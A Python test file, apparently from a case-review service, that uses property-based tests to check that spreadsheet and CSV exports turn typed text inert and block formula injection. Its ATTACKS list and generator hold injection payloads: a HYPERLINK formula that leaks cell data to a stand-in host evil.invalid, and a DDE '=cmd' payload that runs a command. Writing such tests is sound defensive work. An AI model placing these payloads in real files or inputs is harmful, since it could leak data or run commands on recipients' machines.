"""Finding 4: formula injection in exported spreadsheets. IMR text such as =HYPERLINK(…) or
=cmd|… reaches the combined chronology workbook as text, never a live formula; and, as a
property over every export the service writes (the combined chronology, the action plan, the
access log CSV), any text a person can type comes back as the same text, inert."""

from __future__ import annotations

import csv
import io
import zipfile

import openpyxl
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from services.documents import sheet_writer
from services.documents.render_xlsx import render_xlsx
from services.documents.text import clean
from services.workflows.overview.chronology_export import COLUMNS, as_xlsx
from tests.fakes.imr_docx import event
from tests.integration.imr_steps import accepted_imr
from tests.unit.test_action_plan_workbook import TEMPLATE, plan

ATTACKS = [
    '=HYPERLINK("http://evil.invalid/?"&A2,"Click for details")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1)",
]


def formulas(xlsx: bytes) -> list[str]:
    """Every <f> element in every worksheet: what Excel would evaluate on opening."""
    with zipfile.ZipFile(io.BytesIO(xlsx)) as package:
        return [
            name
            for name in package.namelist()
            if name.startswith("xl/worksheets/")
            and b"<f>" in package.read(name).replace(b"<f ", b"<f>")
        ]


def test_imr_text_reaches_the_combined_chronology_as_text(api, coordinator):
    events = [event(f"0{i + 1}/04/2024", text) for i, text in enumerate(ATTACKS)]
    accepted_imr(
        api,
        coordinator,
        "Demoshire Police",
        "m.kells@police.demo.local",
        "p.castell@police.demo.local",
        events,
        ["Call handlers complete DASH for every report of threats"],
    )
    exported = coordinator.get("reviews/1/chronology?format=xlsx")
    assert exported.status_code == 200
    assert formulas(exported.data) == []
    sheet = openpyxl.load_workbook(io.BytesIO(exported.data)).active
    values = [c.value for row in sheet.iter_rows() for c in row]
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
    for attack in ATTACKS:
        assert attack in values  # the same characters, shown as text


# -- the property, over every export the service writes ---------------------------------------

typed = st.text(
    alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"),
    max_size=120,
)
opening = st.sampled_from(
    ["", "=", "+", "-", "@", "\t", "\r", "\n", "=cmd|' /C calc'!A0", "=HYPERLINK("]
)
text = st.builds(lambda a, b: a + b, opening, typed)
SLOW = settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])


def shown(value: str) -> str:
    return clean(value)[0]


@SLOW
@given(value=text, note=text)
def test_the_combined_chronology_workbook_holds_any_text_as_text(value, note):
    row = {key: value for _title, key in COLUMNS}
    row.update(
        id=7,
        note=note,
        imr={"version": "1.0"},
        agency=value,
        key_episode=True,
        possible_duplicates=[3, 4],
    )
    data = as_xlsx([row])
    assert formulas(data) == []
    cells = list(openpyxl.load_workbook(io.BytesIO(data)).active.iter_rows(values_only=True))[1]
    expected_text = shown(value) or None
    assert cells[1] == expected_text  # the first column after "Row"
    assert shown(note) in (cells[-4] or "")


@SLOW
@given(action=text, outcome=text, officer=text)
def test_the_action_plan_workbook_holds_any_text_as_text(action, outcome, officer):
    context = plan(1)
    context["actions"][0].update(action=action, outcome=outcome, lead_officer=officer)
    data = render_xlsx(TEMPLATE, context)
    assert formulas(data) == []
    sheet = openpyxl.load_workbook(io.BytesIO(data))["Action plan"]
    values = {c.value for row in sheet.iter_rows() for c in row if c.value is not None}
    for typed_text in (action, outcome, officer):
        if shown(typed_text):
            assert shown(typed_text) in values


@SLOW
@given(person=text, action=text)
def test_the_access_log_csv_holds_any_text_inert(person, action):
    data = sheet_writer.csv_bytes(
        ["person", "action", "object_id"], [{"person": person, "action": action, "object_id": -3}]
    )
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8"))))
    for field, typed_text in (("person", person), ("action", action)):
        cell = rows[0][field]
        assert not cell.startswith((*sheet_writer.FORMULA_STARTS, "\n"))
        assert cell.removeprefix("'") == shown(typed_text)
    assert rows[0]["object_id"] == "-3"  # a number stays a number


@SLOW
@given(
    values=st.lists(
        st.one_of(text, st.integers(-(10**6), 10**6), st.dates(), st.none()), max_size=6
    )
)
def test_the_writer_keeps_numbers_and_dates_and_makes_text_inert(values):
    data = sheet_writer.workbook("Sheet", [f"c{i}" for i in range(len(values))], [values])
    assert formulas(data) == []
    read = list(openpyxl.load_workbook(io.BytesIO(data)).active.iter_rows(values_only=True))
    back_row = read[1] if len(read) > 1 else ()  # a row of blanks is no row at all
    for written, back in zip(values, (*back_row, *([None] * len(values))), strict=False):
        if isinstance(written, str):
            assert back == (shown(written) or None)
        elif isinstance(written, int):
            assert back == written
        elif written is not None:
            assert back.date() == written
